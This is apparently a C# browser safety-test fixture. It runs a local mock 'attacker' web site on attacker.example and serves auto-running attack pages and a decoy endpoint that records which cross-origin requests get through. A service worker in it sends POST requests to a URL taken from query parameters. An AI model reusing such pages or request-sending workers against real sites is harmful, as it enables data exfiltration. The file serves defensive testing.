using System.Collections.Concurrent;
using System.Net;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Server.Kestrel.Core;
using Microsoft.Extensions.Logging;

namespace VideoCreateAi.SafetyTests.Browser;

/// <summary>The web site of an attacker: its pages, what they report, and a decoy that takes note of every request that reaches it,
/// so that a way of attacking that no browser goes is not taken for one that was refused.</summary>
internal sealed class AttackSite : IAsyncDisposable
{
    private const string ServiceWorker =
        """
        const asked = new URL(location.href).searchParams;
        self.addEventListener('install', event => event.waitUntil(fetch(asked.get('url'), { method: 'POST', body: asked.get('body') }).catch(() => 0).then(() => skipWaiting())));
        """;

    private static readonly string s_script = ReadScript();

    private readonly WebApplication _app;
    private readonly ConcurrentDictionary<string, string> _pages = new();
    private readonly ConcurrentDictionary<string, string> _decoyed = new();
    private readonly ConcurrentDictionary<string, TaskCompletionSource<PageReport[]>> _reports = new();

    private AttackSite(WebApplication app) => _app = app;

    public int Port => new Uri(_app.Urls.First()).Port;

    /// <summary>Page and way of each attack that reached the decoy, and its method; a preflight is OPTIONS.</summary>
    public IReadOnlyDictionary<string, string> Decoyed => _decoyed;

    public static async Task<AttackSite> StartAsync()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.ConfigureKestrel(kestrel => kestrel.Listen(IPAddress.Loopback, 0, listen => listen.Protocols = HttpProtocols.Http1));
        var app = builder.Build();
        var site = new AttackSite(app);
        app.Run(site.AnswerAsync);
        await app.StartAsync();
        return site;
    }

    /// <summary>A page that attacks as soon as it is open.</summary>
    public string PageOf(AttackSettings settings)
    {
        var json = Uri.EscapeDataString(JsonSerializer.Serialize(settings, AttackJson.Default.AttackSettings));
        return $"<!doctype html><body><script src=\"http://attacker.example:{Port}/attack.js?settings={json}\"></script></body>";
    }

    /// <summary>A page without an origin of its own.</summary>
    public string NamelessPageOf(AttackSettings settings) =>
        $"<!doctype html><body><iframe sandbox=\"allow-scripts allow-forms\" srcdoc=\"{WebUtility.HtmlEncode(PageOf(settings))}\"></iframe></body>";

    /// <summary>A page that opens others, each in a window of its own.</summary>
    public static string PageThatOpens(IEnumerable<string> addresses) =>
        $"<!doctype html><body><script>{string.Concat(addresses.Select(address => $"open('{address}');"))}</script></body>";

    /// <returns>Where on the site this page is from now on.</returns>
    public string Publish(string page)
    {
        var name = Guid.NewGuid().ToString("N");
        _pages[name] = page;
        return $"/page/{name}";
    }

    /// <summary>What the page says when it is through.</summary>
    public Task<PageReport[]> ReportAsync(string page) =>
        _reports.GetOrAdd(page, _ => new(TaskCreationOptions.RunContinuationsAsynchronously)).Task;

    public ValueTask DisposeAsync() => _app.DisposeAsync();

    private Task AnswerAsync(HttpContext context)
    {
        var path = context.Request.Path.Value!;
        return path switch
        {
            "/attack.js" => GiveAsync(context, "text/javascript", s_script),
            "/service-worker.js" => GiveAsync(context, "text/javascript", ServiceWorker),
            "/report" => TakeReportAsync(context),
            "/decoy" => NoteAsync(context),
            _ when path.StartsWith("/page/", StringComparison.Ordinal) && _pages.TryGetValue(path[6..], out var page) => GiveAsync(context, "text/html", page),
            _ => GiveAsync(context, "text/plain", ""),
        };
    }

    private static Task GiveAsync(HttpContext context, string type, string text)
    {
        context.Response.ContentType = type;
        return context.Response.WriteAsync(text);
    }

    private async Task TakeReportAsync(HttpContext context)
    {
        var report = await JsonSerializer.DeserializeAsync(context.Request.Body, AttackJson.Default.PageReportArray);
        _reports.GetOrAdd(report![0].Page, _ => new(TaskCreationOptions.RunContinuationsAsynchronously)).TrySetResult(report);
    }

    private Task NoteAsync(HttpContext context)
    {
        if (context.Request.Query["way"] is [{ } way, ..])
        {
            _decoyed[way] = context.Request.Method;
        }

        return Task.CompletedTask;
    }

    private static string ReadScript()
    {
        using var stream = typeof(AttackSite).Assembly.GetManifestResourceStream("attack.js")!;
        using var reader = new StreamReader(stream);
        return reader.ReadToEnd();
    }
}
